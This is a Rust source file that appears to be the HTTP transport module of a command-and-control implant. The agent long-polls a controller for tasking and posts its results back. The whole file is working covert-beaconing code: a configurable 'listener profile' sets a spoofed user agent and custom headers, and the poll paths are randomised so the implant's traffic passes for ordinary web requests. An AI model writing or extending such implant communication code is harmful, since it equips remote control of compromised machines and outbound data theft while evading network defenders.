//! HTTP transport — long-polls the controller with a profile-driven identity.
//!
//! The listener profile string `"{poll paths}|{user agent}|{Header:Value}*"`
//! (pipe-delimited, poll paths comma-separated) configures the request shape.
//! Tasking is fetched with GET and responses are posted to the same paths;
//! the session id travels in a cookie.

use async_trait::async_trait;
use rand::seq::SliceRandom;

use crate::config::AgentConfig;
use crate::error::{ConfigError, TransportError};
use crate::transport::{Tasking, Transport};

/// Parsed listener profile.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListenerProfile {
    pub poll_paths: Vec<String>,
    pub user_agent: String,
    pub headers: Vec<(String, String)>,
}

impl ListenerProfile {
    /// Parse `"{paths}|{user agent}|{Header:Value}*"`. Malformed extra-header
    /// segments are skipped; an empty path or agent section is an error.
    pub fn parse(raw: &str) -> Result<Self, ConfigError> {
        let mut sections = raw.split('|');
        let paths = sections
            .next()
            .filter(|s| !s.trim().is_empty())
            .ok_or_else(|| ConfigError::InvalidProfile(raw.to_string()))?;
        let user_agent = sections
            .next()
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .ok_or_else(|| ConfigError::InvalidProfile(raw.to_string()))?;

        let headers = sections
            .filter_map(|segment| {
                segment
                    .split_once(':')
                    .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
            })
            .filter(|(k, _)| !k.is_empty())
            .collect();

        let poll_paths = paths
            .split(',')
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .map(String::from)
            .collect::<Vec<_>>();
        if poll_paths.is_empty() {
            return Err(ConfigError::InvalidProfile(raw.to_string()));
        }

        Ok(Self {
            poll_paths,
            user_agent: user_agent.to_string(),
            headers,
        })
    }
}

/// HTTP long-poll transport.
pub struct HttpTransport {
    client: reqwest::Client,
    server: String,
    profile: ListenerProfile,
    session_cookie: String,
}

impl HttpTransport {
    pub fn new(config: &AgentConfig) -> Result<Self, ConfigError> {
        let profile = ListenerProfile::parse(&config.profile)?;
        Ok(Self {
            client: reqwest::Client::new(),
            server: config.server.trim_end_matches('/').to_string(),
            profile,
            session_cookie: format!("session={}", config.session_id),
        })
    }

    /// Pick one of the profile's poll paths for this request.
    fn poll_url(&self) -> String {
        let path = self
            .profile
            .poll_paths
            .choose(&mut rand::thread_rng())
            .map(String::as_str)
            .unwrap_or("/");
        format!("{}{}", self.server, path)
    }

    fn apply_headers(&self, request: reqwest::RequestBuilder) -> reqwest::RequestBuilder {
        let mut request = request
            .header(reqwest::header::USER_AGENT, &self.profile.user_agent)
            .header(reqwest::header::COOKIE, &self.session_cookie);
        for (name, value) in &self.profile.headers {
            request = request.header(name, value);
        }
        request
    }
}

#[async_trait]
impl Transport for HttpTransport {
    async fn fetch_tasking(&self) -> Result<Tasking, TransportError> {
        let response = self
            .apply_headers(self.client.get(self.poll_url()))
            .send()
            .await
            .map_err(|e| TransportError::Request(e.to_string()))?;

        let status = response.status().as_u16();
        let body = response
            .bytes()
            .await
            .map_err(|e| TransportError::Request(e.to_string()))?
            .to_vec();
        Ok(Tasking { status, body })
    }

    async fn send(&self, packet: Vec<u8>) -> Result<(), TransportError> {
        let response = self
            .apply_headers(self.client.post(self.poll_url()))
            .body(packet)
            .send()
            .await
            .map_err(|e| TransportError::Request(e.to_string()))?;

        let status = response.status();
        if !status.is_success() {
            return Err(TransportError::Status {
                code: status.as_u16(),
            });
        }
        Ok(())
    }
}
